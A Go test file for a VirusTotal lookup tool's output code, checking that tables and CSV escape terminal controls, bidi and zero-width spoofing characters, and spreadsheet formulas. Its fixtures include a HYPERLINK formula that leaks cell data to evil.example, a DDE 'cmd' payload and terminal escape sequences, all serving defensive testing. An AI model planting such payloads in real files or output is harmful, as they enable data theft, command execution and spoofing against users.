package output

import (
	"bytes"
	"encoding/csv"
	"io"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/vtsoar/vtsoar/internal/command"
)

func TestPrintable(t *testing.T) {
	for in, want := range map[string]string{
		"example.com":                    "example.com",
		"\x1b[2J":                        `\x1b[2J`,
		"a\tb\nc\rd\x00e\x07":            `a\tb\nc\rd\x00e\a`,
		"del\x7f":                        `del\x7f`,
		"c1 \u009b31m \u0085":            `c1 \u009b31m \u0085`,
		"bad \xff\x9b byte":              `bad \xff\x9b byte`,
		"ünïcödé – ok, \\x1b too":        "ünïcödé – ok, \\x1b too",
		"\ufffd stays":                   "\ufffd stays",
		"\u202egnp.exe":                  `\u202egnp.exe`,
		"a\u202a\u202b\u202c\u202d":      `a\u202a\u202b\u202c\u202d`,
		"\u2066\u2067\u2068\u2069":       `\u2066\u2067\u2068\u2069`,
		"pay\u200bpal\u200c\u200d.com":   `pay\u200bpal\u200c\u200d.com`,
		"\u200e\u200f\u061c\ufeff\u00ad": `\u200e\u200f\u061c\ufeff\u00ad`,
		"line\u2028para\u2029":           `line\u2028para\u2029`,
		"tag\U000e0041":                  `tag\U000e0041`,
		"fill\u3164\u115f\uffa0":         `fill\u3164\u115f\uffa0`,
		"עברית and عربي":                 "עברית and عربي",
		"emoji 👍🏽 ✓":                     "emoji 👍🏽 ✓",
	} {
		if got := Printable(in); got != want {
			t.Errorf("Printable(%q) = %q, want %q", in, got, want)
		}
	}
}

// hostile is an envelope whose inputs and VirusTotal texts carry terminal controls.
func hostile() *command.Envelope {
	return &command.Envelope{
		Command: "lookup", ReturnData: command.PartiallySuccessful,
		ContextData: []command.ContextEntry{
			{Input: "evil\x1b[2J.com", Status: "ok", Type: "domain", ID: "evil.com", RiskLevel: "Low", RiskLevelCode: 3,
				RiskReason: "reason\x1b]0;title\x07 with \u009b31m C1", Fields: command.JSONFields{"note": "line1\nline2\x7f"}},
			{Input: "\x1b[31mred", Status: "error", Type: "url", RiskLevel: "N/A", RiskLevelCode: 4, Error: "Bad\x08\x08 input\r"},
		},
		Errors:  []command.ErrorEntry{{Input: "\x1b[31mred", Message: "Bad\x08\x08 input\r"}},
		Skipped: []command.SkippedInput{{Input: "10.0.0.1\x1b[K", Type: "ip", Reason: "private\x1b[8m", Include: "include_private"}},
	}
}

// controlFree fails when out holds a control character other than the newlines that
// end its lines, or a byte that is not UTF-8.
func controlFree(t *testing.T, what, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s is not UTF-8: %q", what, out)
	}
	for _, r := range out {
		if r != '\n' && (r < 0x20 || r == 0x7f || r >= 0x80 && r < 0xa0) {
			t.Errorf("%s holds control character %U:\n%q", what, r, out)
			return
		}
	}
}

func TestTableEscapesControlCharacters(t *testing.T) {
	var b bytes.Buffer
	if err := Table(&b, hostile(), false); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	controlFree(t, "table", out)
	for _, want := range []string{`evil\x1b[2J.com`, `\x1b]0;title\a`, `\u009b31m`, `\x1b[31mred`, `Bad\b\b input\r`, `10.0.0.1\x1b[K: private\x1b[8m`} {
		if !strings.Contains(out, want) {
			t.Errorf("table lacks %q:\n%s", want, out)
		}
	}
	// The columns stay aligned: one line per input, the header, the result and the skipped ones.
	if n := strings.Count(out, "\n"); n != 8 {
		t.Errorf("table has %d lines, want 8:\n%s", n, out)
	}
	b.Reset()
	if err := Table(&b, hostile(), true); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), "\x1b[2J") || strings.Contains(b.String(), "\x1b[31mred") {
		t.Errorf("a coloured table passes an input's escape sequence through:\n%q", b.String())
	}
}

func TestCSVEscapesControlCharacters(t *testing.T) {
	var b bytes.Buffer
	if err := CSV(&b, hostile()); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	controlFree(t, "csv", out)
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	// A header, two entries and a skipped input, one line each.
	if len(rows) != 4 || strings.Count(out, "\n") != 4 {
		t.Fatalf("csv has %d records on %d lines, want 4 on 4:\n%s", len(rows), strings.Count(out, "\n"), out)
	}
	if rows[1][0] != `evil\x1b[2J.com` || rows[1][6] != `reason\x1b]0;title\a with \u009b31m C1` || rows[1][8] != `line1\nline2\x7f` {
		t.Errorf("row 1 = %q", rows[1])
	}
	if rows[2][0] != `\x1b[31mred` || rows[2][7] != `Bad\b\b input\r` {
		t.Errorf("row 2 = %q", rows[2])
	}
	if rows[3][0] != `10.0.0.1\x1b[K` || rows[3][9] != `private\x1b[8m` {
		t.Errorf("row 3 = %q", rows[3])
	}
}

func TestCSVWritesTextAsText(t *testing.T) {
	date := time.Date(2018, 12, 27, 0, 19, 13, 0, time.UTC)
	type verdict string
	env := &command.Envelope{Command: "check-file-reputation", ReturnData: command.Successful,
		ContextData: []command.ContextEntry{{Input: "44d88612fea8a8f36de82e1278abb02f", Status: "ok", Type: "file",
			Fields: command.JSONFields{
				"last_analysis_date":  date,
				"verdict":             verdict("malicious <b>"),
				"last_analysis_stats": map[string]int{"malicious": 62},
				"reputation":          int64(-4),
				"tags":                []string{"peexe", "a,b"},
				"cached":              true,
			}}}}
	var b bytes.Buffer
	if err := CSV(&b, env); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), `"""`) {
		t.Errorf("a text is written as a JSON string:\n%s", b.String())
	}
	_, got := readCSV(t, &b)
	for col, want := range map[string]string{
		"last_analysis_date":  "2018-12-27T00:19:13Z",
		"verdict":             "malicious <b>",
		"last_analysis_stats": `{"malicious":62}`,
		"reputation":          "-4",
		"tags":                `["peexe","a,b"]`,
		"cached":              "true",
	} {
		if got[col] != want {
			t.Errorf("%s = %q, want %q", col, got[col], want)
		}
	}
}

// TestCSVNeutralisesFormulas: an input, VirusTotal's texts and fields that a
// spreadsheet would run as formulas (OWASP's CSV Injection) are written as text, after
// a single quote; numbers, negative ones too, stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	env := &command.Envelope{Command: "lookup", ReturnData: command.Successful,
		ContextData: []command.ContextEntry{{Input: `=HYPERLINK("http://evil.example/?leak="&A2,"open")`, Status: "ok", Type: "domain",
			ID: "evil.example", RiskLevel: "Low", RiskLevelCode: 3, RiskReason: "-2+3+cmd|' /C calc'!A0",
			Fields: command.JSONFields{
				"title":      "@SUM(1)",
				"whois":      "\t=1+1",
				"registrar":  "\r+1",
				"comment":    "a = b, not at the start",
				"reputation": int64(-1),
				"score":      -2.5,
				"tiny":       -3e-7,
				"as_text":    "-17",
				"tags":       []string{"=1"},
			}}},
		Skipped: []command.SkippedInput{{Input: "@evil", Type: "domain", Reason: "+reason"}},
	}
	var b bytes.Buffer
	if err := CSV(&b, env); err != nil {
		t.Fatal(err)
	}
	rows, got := readCSV(t, &b)
	for col, want := range map[string]string{
		"input":           `'=HYPERLINK("http://evil.example/?leak="&A2,"open")`,
		"risk_reason":     `'-2+3+cmd|' /C calc'!A0`,
		"risk_level_code": "3",
		"title":           "'@SUM(1)",
		"whois":           `'\t=1+1`,
		"registrar":       `'\r+1`,
		"comment":         "a = b, not at the start",
		"reputation":      "-1",
		"score":           "-2.5",
		"tiny":            "-3e-07",
		"as_text":         "-17",
		"tags":            `["=1"]`,
	} {
		if got[col] != want {
			t.Errorf("%s = %q, want %q", col, got[col], want)
		}
	}
	reason := slices.Index(rows[0], skipReasonColumn)
	if len(rows) != 3 || rows[2][0] != "'@evil" || reason < 0 || rows[2][reason] != "'+reason" {
		t.Errorf("skipped row = %q", rows[len(rows)-1])
	}
}

func TestCSVCellNumbers(t *testing.T) {
	for in, want := range map[string]string{
		"-1": "-1", "+1": "+1", "-1.5": "-1.5", "-.5": "-.5", "-5.": "-5.", "-1e+06": "-1e+06", "-1E9": "-1E9",
		"-": "-", "": "", "0": "0",
		"+": "'+", "--1": "'--1", "-1e": "'-1e", "-1e+": "'-1e+", "-1.2.3": "'-1.2.3", "-.": "'-.", "-1+1": "'-1+1",
		"-Inf": "'-Inf", "-0x10": "'-0x10", "-1 ": "'-1 ", "=1": "'=1", "@x": "'@x", "\t1": `'\t1`,
	} {
		if got := CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// invisibleFree fails when out holds a character that can hide or reorder what a
// table shows: a format character (bidi controls, zero-width characters), a line or
// paragraph separator.
func invisibleFree(t *testing.T, what, out string) {
	t.Helper()
	for _, r := range out {
		if unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp) || r == 0x3164 {
			t.Errorf("%s holds invisible character %U:\n%q", what, r, out)
			return
		}
	}
}

// TestTableEscapesBidiAndInvisibleCharacters: a domain whose name a bidi override
// reverses, or that zero-width characters make look like another, is shown with
// those characters escaped (Trojan Source), in the table and in CSV, and the table's
// columns stay aligned.
func TestTableEscapesBidiAndInvisibleCharacters(t *testing.T) {
	env := &command.Envelope{Command: "lookup", ReturnData: command.Successful,
		ContextData: []command.ContextEntry{
			{Input: "\u202emoc.elgoog", Status: "ok", Type: "domain", ID: "x", RiskLevel: "High", RiskLevelCode: 1,
				RiskReason: "isolate \u2066evil\u2069 and \u200ezero\u200b\u200dwidth"},
			{Input: "pay\u200bpal.com", Status: "ok", Type: "domain", ID: "y", RiskLevel: "Low", RiskLevelCode: 3,
				RiskReason: "filler\u3164 line\u2028sep"},
		}}
	var b bytes.Buffer
	if err := Table(&b, env, false); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	invisibleFree(t, "table", out)
	for _, want := range []string{`\u202emoc.elgoog`, `pay\u200bpal.com`, `isolate \u2066evil\u2069 and \u200ezero\u200b\u200dwidth`,
		`filler\u3164 line\u2028sep`} {
		if !strings.Contains(out, want) {
			t.Errorf("table lacks %q:\n%s", want, out)
		}
	}
	lines := strings.Split(out, "\n")
	if strings.Index(lines[0], "STATUS") != strings.Index(lines[1], "ok") || strings.Index(lines[1], "ok") != strings.Index(lines[2], "ok") {
		t.Errorf("columns not aligned:\n%s", out)
	}
	b.Reset()
	if err := CSV(&b, env); err != nil {
		t.Fatal(err)
	}
	invisibleFree(t, "csv", b.String())
}

// readCSV reads CSV from r: its rows, and the first row after the header by the
// header's columns.
func readCSV(t *testing.T, r io.Reader) (rows [][]string, first map[string]string) {
	t.Helper()
	rows, err := csv.NewReader(r).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) < 2 {
		t.Fatalf("%d CSV rows, want a header and a row", len(rows))
	}
	first = map[string]string{}
	for i, col := range rows[0] {
		first[col] = rows[1][i]
	}
	return rows, first
}
